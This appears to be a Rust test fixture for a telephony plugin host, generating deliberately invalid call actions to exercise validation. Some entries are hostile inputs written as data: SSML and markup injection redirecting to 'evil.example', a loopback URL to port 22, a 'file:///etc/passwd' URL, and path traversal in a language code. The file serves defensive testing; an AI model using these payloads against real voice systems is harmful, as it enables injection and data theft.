//! Makes each impossible decision; the one above chooses.

use shape::jackfield::plugin::decisions::{Choice, Collect, Enqueue, Menu, Play, Ringing, Target, Transfer, Voicemail};
use shape::jackfield::plugin::personas::BargeIn;
use shape::jackfield::plugin::types::Extension;
use shape::{Action, Contact, Prompt, PromptContent, text};

/// Far beyond what any plan allows.
const MANY: usize = 10_000;

/// The actions of a sin; none where nobody knows it.
pub(crate) fn actions(sin: &str, contact: &Contact) -> Option<Vec<Action>> {
    let one = |action| Some(vec![action]);
    let number = |number: &str| Target::Number(number.into());
    match sin {
        "many-actions" => Some((0..MANY).map(|_| Action::Pause(1)).collect()),
        "no-actions" => Some(Vec::new()),
        "keep-and-more" => Some(vec![Action::Keep, Action::Say(text("and more"))]),
        "after-the-end" => Some(vec![Action::HangUp(None), Action::Say(text("is anybody there?"))]),
        "empty-text" => one(Action::Say(text("  "))),
        "control-characters" => one(Action::Say(text("bell \u{7} and escape \u{1b}[2J"))),
        "broken-ssml" => one(Action::Say(ssml("<speak><prosody rate='slow'>never closed</speak>"))),
        "hostile-ssml" => {
            one(Action::Say(ssml("<speak><!DOCTYPE x [<!ENTITY a 'b'>]>&a;</speak><Redirect>http://evil.example</Redirect>")))
        }
        "markup-in-text" => one(Action::Say(text("</Say><Redirect>http://evil.example/</Redirect><Say>"))),
        "loopback-url" => one(Action::Play(Play { url: "http://127.0.0.1:22/".into(), times: 1, barge_in: BargeIn::None })),
        "file-url" => one(Action::Play(Play { url: "file:///etc/passwd".into(), times: 1, barge_in: BargeIn::None })),
        "play-for-ever" => one(Action::Play(Play { url: "https://example.com/a.mp3".into(), times: u32::MAX, barge_in: BargeIn::None })),
        "pause-for-ever" => one(Action::Pause(u64::MAX)),
        "bad-language" => one(Action::SetLanguage("../../etc".into())),
        "unknown-queue" => one(Action::Enqueue(enqueue("a-queue-that-nobody-has"))),
        "bad-tag" => one(Action::Enqueue(Enqueue { tag: "a tag?with=\"everything\"&more".into(), ..enqueue("front-desk") })),
        "foreign-caller-id" => {
            one(Action::Transfer(Transfer { caller_id: Some("+12025550123".into()), ..transfer(vec![number("+14155550111")]) }))
        }
        "bad-number" => one(Action::Transfer(transfer(vec![number("call-me-maybe")]))),
        "unknown-flow" => one(Action::Transfer(transfer(vec![Target::Flow("a-flow-that-nobody-has".into())]))),
        "unknown-person" => one(Action::Transfer(transfer(vec![Target::Person("nobody".into())]))),
        "no-targets" => one(Action::Transfer(transfer(Vec::new()))),
        "many-targets" => one(Action::Transfer(transfer((0..100).map(|_| number("+14155550111")).collect()))),
        "dials-the-caller" => one(Action::Transfer(transfer(vec![number(contact.customer.address.e164.as_deref().unwrap_or("+1"))]))),
        "double-keys" => one(Action::Menu(Menu { collect: collect(1), choices: vec![choice("1"), choice("1")] })),
        "no-choices" => one(Action::Menu(Menu { collect: collect(1), choices: Vec::new() })),
        "asks-for-ever" => one(Action::Collect(collect(u32::MAX))),
        "records-for-ever" => one(Action::Voicemail(voicemail(u64::MAX))),
        "bad-rejection" => one(Action::Reject("because".into())),
        "unregistered-kind" => one(Action::Other(Extension { kind: "self-destruct".into(), data: "{}".into() })),
        "huge-kind" => one(Action::Other(Extension { kind: "k".repeat(10_000), data: "not json".into() })),
        _ => None,
    }
}

fn ssml(ssml: &str) -> Prompt {
    Prompt { content: PromptContent::Ssml(ssml.into()), language: None, voice: None }
}

fn enqueue(queue: &str) -> Enqueue {
    Enqueue {
        tag: "queue".into(),
        queue: queue.into(),
        priority: None,
        skills: Vec::new(),
        relaxations: Vec::new(),
        hold_music: None,
        announce_every: None,
        notify: false,
        maximum_wait: None,
        overflow: Vec::new(),
        extras: Vec::new(),
    }
}

fn transfer(targets: Vec<Target>) -> Transfer {
    Transfer {
        tag: "transfer".into(),
        targets,
        ringing: Ringing::Series,
        ring_timeout: None,
        talk_limit: None,
        caller_id: None,
        whisper: None,
        screening: false,
        warm: false,
        extras: Vec::new(),
    }
}

fn choice(key: &str) -> Choice {
    Choice { key: key.into(), label: "a choice".into(), value: "choice".into(), phrases: Vec::new() }
}

fn collect(attempts: u32) -> Collect {
    Collect {
        tag: "question".into(),
        prompts: vec![text("Well?")],
        dtmf: true,
        speech: false,
        min_digits: 1,
        max_digits: 1,
        terminator: None,
        first_timeout: 5_000,
        inter_digit_timeout: 3_000,
        barge_in: BargeIn::Any,
        hints: Vec::new(),
        minimum_confidence: None,
        attempts,
        no_input: Vec::new(),
        no_match: Vec::new(),
        low_confidence: Vec::new(),
        sensitive: false,
        extras: Vec::new(),
    }
}

fn voicemail(max_length: u64) -> Voicemail {
    Voicemail {
        tag: "message".into(),
        mailbox: None,
        prompts: Vec::new(),
        max_length,
        silence_timeout: None,
        terminator: None,
        beep: true,
        transcribe: false,
    }
}
